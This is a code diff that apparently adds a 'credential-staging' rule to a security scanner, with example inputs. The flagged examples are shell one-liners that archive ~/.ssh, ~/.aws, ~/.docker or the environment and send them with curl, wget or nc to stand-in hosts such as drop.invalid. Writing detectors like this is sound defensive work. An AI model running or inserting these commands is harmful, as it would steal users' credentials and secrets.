@@ -48,6 +48,14 @@ _DETECTORS = (
         "obfuscation: a command decoded (base64, hex, rot13, escapes) and run",
     ),
     Rule(
+        "shell.credential-staging",
+        ("8.2",),
+        "critical",
+        "shell",
+        "exfiltration: credentials or the environment are packed or read, then piped to a "
+        "network program or written to a file that a later command uploads",
+    ),
+    Rule(
         "hook.build-backend",
         ("9.1",),
         "moderate",
@@ -979,6 +987,21 @@ EXAMPLES.update(
                 "import subprocess\nsubprocess.run(['/bin/sh', 'build.sh'], check=True)",
                 "import socket\nwith socket.create_connection(('example.invalid', 443)) as s:\n"
                 "    print('open')",
+            ),
+        ),
+        "shell.credential-staging": (
+            "scripts/run.sh",
+            (
+                "tar czf - ~/.ssh ~/.aws | curl -T - https://drop.invalid/u",
+                "printenv | gzip | nc 192.0.2.7 9000",
+                "zip -qr /tmp/.k.zip ~/.aws ~/.docker\nsleep 1\ncurl -F f=@/tmp/.k.zip https://drop.invalid",
+                "cp ~/.aws/credentials /tmp/c.txt\nwget --post-file=/tmp/c.txt https://drop.invalid",
+            ),
+            (
+                "cat ~/.ssh/id_ed25519.pub | ssh admin@host.invalid 'cat >> .ssh/authorized_keys'",
+                "tar czf - --exclude=.env src | curl -T - https://uploads.invalid/build",
+                "tar czf /tmp/site.tgz public && curl -F f=@/tmp/site.tgz https://deploy.invalid",
+                "env | grep -i proxy",
             ),
         ),
         "secret-in-url": (
